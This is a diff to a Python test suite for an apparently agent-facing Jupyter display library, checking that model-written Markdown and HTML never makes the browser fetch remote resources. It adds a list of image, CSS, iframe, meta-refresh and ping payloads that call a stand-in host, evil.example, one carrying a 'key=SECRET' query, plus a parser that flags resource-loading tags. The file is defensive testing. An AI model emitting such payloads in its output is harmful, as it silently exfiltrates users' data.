@@ -19,7 +19,7 @@ from agent_kernel.display.form import form_bundle
 from agent_kernel.display.history import render_history
 from agent_kernel.display.table_widget import TableSource
 from agent_kernel.display.text_tables import Markdown
-from agent_kernel.display.transcript import ToolCard, _card_bundle, _notice_bundle, _text_bundle
+from agent_kernel.display.transcript import TURN_MIME, ToolCard, _card_bundle, _notice_bundle, _text_bundle
 from agent_kernel.errors import ToolInputError
 
 PAYLOADS = [
@@ -222,10 +222,140 @@ def test_safe_markdown_still_renders_markdown():
     assert "<h1>Title</h1>" in markup and "<strong>bold</strong>" in markup and "<code>code</code>" in markup
     assert '<a href="https://example.org" rel="noopener noreferrer">link</a>' in markup
     assert '<th style="text-align:right">a</th>' in markup
-    assert '<img src="https://example.org/c.png" alt="chart">' in markup
+    assert (
+        '<a class="agent-kernel-image-link" href="https://example.org/c.png" title="https://example.org/c.png" '
+        'rel="noopener noreferrer">🖼 image: chart (example.org/c.png)</a>'
+    ) in markup
 
 
 def test_clean_text_removes_what_renderers_reject():
     assert safe.clean_text("a\x00b\x01c\x1bd\ufffee\uffff\ud800f\r\ng\th") == "abcde\ufffdf\ng\th"
     assert safe.clean_text("plain ünïcode 🙂") == "plain ünïcode 🙂"
     assert safe.clean_value({"k\x00": ["v\x00", 1, None]}) == {"k": ["v", 1, None]}
+
+
+# -- no fetch by itself: what the model writes never makes the browser load a resource ----
+
+EVIL = "evil.example"
+FETCHING = [
+    f"![x](https://{EVIL}/a.png?key=SECRET)",
+    f"![x](//{EVIL}/a.png)",
+    f"![x](HTTPS://{EVIL.upper()}/a.png)",
+    f"![x](http://{EVIL}:8080/a.png 'a title')",
+    f"![x](<https://{EVIL}/a b.png>)",
+    f"![x](https&#58;//{EVIL}/a.png)",
+    f"![x][r]\n\n[r]: https://{EVIL}/r.png",
+    f"![x][]\n\n[x]: https://{EVIL}/r.png",
+    f"![x]\n\n[x]: <//{EVIL}/r.png>",
+    f"[![x](https://{EVIL}/a.png)](https://ok.example)",
+    f"![![inner](https://{EVIL}/i.png)](https://{EVIL}/o.png)",
+    f"| a |\n|---|\n| ![x](https://{EVIL}/t.png) |",
+    f"# ![x](https://{EVIL}/h.png)\n\n> ![x](https://{EVIL}/q.png)\n\n- ![x](https://{EVIL}/l.png)",
+    f"![x](/files/a.png) ![y](../a.png) ![z](a.png)",
+    f'<img src="https://{EVIL}/a.png">',
+    f'<img srcset="https://{EVIL}/a.png 1x, https://{EVIL}/b.png 2x">',
+    f'<picture><source srcset="https://{EVIL}/a.png"><img src="x.png"></picture>',
+    f'<video poster="https://{EVIL}/p.png" src="https://{EVIL}/v.mp4"></video>',
+    f'<audio src="https://{EVIL}/a.mp3" autoplay></audio>',
+    f'<iframe src="https://{EVIL}/"></iframe>',
+    f'<object data="https://{EVIL}/o"></object><embed src="https://{EVIL}/e">',
+    f'<link rel="prefetch" href="https://{EVIL}/p"><link rel="stylesheet" href="https://{EVIL}/s.css">',
+    f'<table background="https://{EVIL}/b.png"><tr><td background="https://{EVIL}/c.png">x</td></tr></table>',
+    f'<a href="https://ok.example" ping="https://{EVIL}/ping">x</a>',
+    f'<div style="background:url(https://{EVIL}/b.png)">x</div>',
+    f'<th style="background-image:url(//{EVIL}/b.png);text-align:left">x</th>',
+    f"<style>@import url(https://{EVIL}/s.css); p{{background:url(https://{EVIL}/b.png)}}</style>",
+    f'<svg><image href="https://{EVIL}/i.png"/><use href="https://{EVIL}/u.svg#x"/></svg>',
+    f'<input type="image" src="https://{EVIL}/i.png">',
+    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/"><base href="https://{EVIL}/">',
+    f'<img src="https://{EVIL}/a.png" loading="lazy">',
+]
+LOADING_TAGS = {"img", "image", "picture", "source", "video", "audio", "track", "iframe", "frame", "object",
+                "embed", "link", "input", "script", "style", "meta", "base", "svg", "use"}  # fmt: skip
+LOADING_ATTRIBUTES = {"src", "srcset", "poster", "background", "ping", "lowsrc", "dynsrc", "data", "xlink:href"}
+
+
+class FetchFinder(HTMLParser):
+    """Collects every element or attribute a browser would load a resource for, unasked."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.fetching: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in LOADING_TAGS:
+            self.fetching.append(f"<{tag}>")
+        for name, value in attrs:
+            if name in LOADING_ATTRIBUTES:
+                self.fetching.append(f"{tag}[{name}]")
+            if name == "style" and re.search(r"url\(|image-set|@import", value or "", re.I):
+                self.fetching.append(f"{tag}[style]")
+
+    handle_startendtag = handle_starttag
+
+
+def fetching_parts(markup: str) -> list[str]:
+    finder = FetchFinder()
+    finder.feed(markup)
+    finder.close()
+    return finder.fetching
+
+
+def assert_fetches_nothing(bundle: dict) -> None:
+    assert "text/markdown" not in bundle  # JupyterLab would render ![](url) as an <img>
+    for mime in ("text/html", "image/svg+xml"):
+        if mime in bundle:
+            assert fetching_parts(bundle[mime]) == [], bundle[mime]
+    turn = bundle.get(TURN_MIME)
+    if turn and "html" in turn:
+        assert fetching_parts(turn["html"]) == [], turn["html"]
+
+
+def test_the_fetch_finder_sees_each_payload_when_rendered_unsafely():
+    """Each payload loads something when shown as JupyterLab shows trusted Markdown."""
+    from markdown_it import MarkdownIt
+
+    unsafe = MarkdownIt("commonmark", {"html": True}).enable("table")
+    assert [p for p in FETCHING if not fetching_parts(unsafe.render(p))] == []
+
+
+@pytest.mark.parametrize("payload", FETCHING)
+def test_model_markdown_fetches_nothing_by_itself(payload, tmp_path: Path):
+    assert_fetches_nothing(safe.markdown_bundle(payload))
+    assert_fetches_nothing(_text_bundle(payload))
+    assert_fetches_nothing(B.markdown_bundle(payload))
+    assert_fetches_nothing({"text/html": Markdown(payload)._repr_html_()})
+    assert_fetches_nothing(_card_bundle(ToolCard("t1", "render_blocks", {"title": payload}, status="ok", detail=payload)))
+    assert_fetches_nothing(_notice_bundle(payload, "warning"))
+    assert_fetches_nothing(B.alert_bundle({"content": payload, "variant": "info"}))
+    assert_fetches_nothing(B.image_bundle({"url": f"https://{EVIL}/a.png", "alt": payload}, tmp_path))
+    # The allow-list itself, on the payload as raw HTML (the project's own markup passes it).
+    assert fetching_parts(safe.sanitize_html(payload)) == [], safe.sanitize_html(payload)
+
+
+def test_a_remote_image_becomes_a_link_the_person_can_click():
+    markup = safe.markdown_html(f"See ![the plot](https://{EVIL}/plot.png?key=SECRET \"Plot\").")
+    parsed = _Anchors()
+    parsed.feed(markup)
+    assert parsed.anchors == [
+        {"class": "agent-kernel-image-link", "href": f"https://{EVIL}/plot.png?key=SECRET",
+         "title": f"Plot · https://{EVIL}/plot.png?key=SECRET", "rel": "noopener noreferrer"}
+    ]  # fmt: skip
+    assert "🖼 image: the plot (evil.example/plot.png)" in markup  # the query string is not shown
+    # A reference-style image, and one inside a link (a label: links do not nest).
+    assert f'href="https://{EVIL}/r.png"' in safe.markdown_html(f"![r][1]\n\n[1]: https://{EVIL}/r.png")
+    nested = safe.markdown_html(f"[![x](https://{EVIL}/a.png)](https://ok.example)")
+    assert nested.count("<a ") == 1 and 'href="https://ok.example"' in nested and "🖼 image: x" in nested
+    # An image block from a URL is a link too.
+    block = B.image_bundle({"url": f"https://{EVIL}/b.png", "alt": "bars"}, Path("."))
+    assert 'href="https://evil.example/b.png"' in block["text/html"] and block["text/plain"] == f"image: bars <https://{EVIL}/b.png>"
+
+
+class _Anchors(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.anchors: list[dict[str, str | None]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag == "a":
+            self.anchors.append(dict(attrs))
